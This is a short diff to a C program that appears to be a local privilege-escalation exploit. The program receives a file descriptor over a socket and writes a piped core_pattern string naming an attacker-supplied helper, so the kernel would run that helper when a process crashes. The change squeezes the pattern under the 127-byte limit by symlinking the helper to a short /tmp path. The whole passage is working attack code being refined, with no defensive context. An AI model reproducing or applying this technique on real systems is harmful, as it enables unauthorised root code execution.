@@ -119,9 +119,13 @@ int main(int argc, char **argv) {
   int fd = -1;
   if (recvmsg(9, &m, 0) == 1 && CMSG_FIRSTHDR(&m))
     memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
-  const char *out = "/tmp/rev31-queued.out";
-  char pattern[512];
-  snprintf(pattern, sizeof pattern, "|%s %d %lx %s", argv[2], (int)getpid(),
+  const char *out = "/tmp/r31q.out";
+  /* core_pattern keeps 127 bytes: the helper under a short name */
+  unlink("/tmp/r31h");
+  if (symlink(argv[2], "/tmp/r31h"))
+    printf("symlink failed\n");
+  char pattern[128];
+  snprintf(pattern, sizeof pattern, "|/tmp/r31h %d %lx %s", (int)getpid(),
            (unsigned long)secret, out);
   long put = fd < 0 ? -1 : (long)write(fd, pattern, strlen(pattern));
   printf("received a descriptor: %d, core_pattern written: %ld\n", fd >= 0,
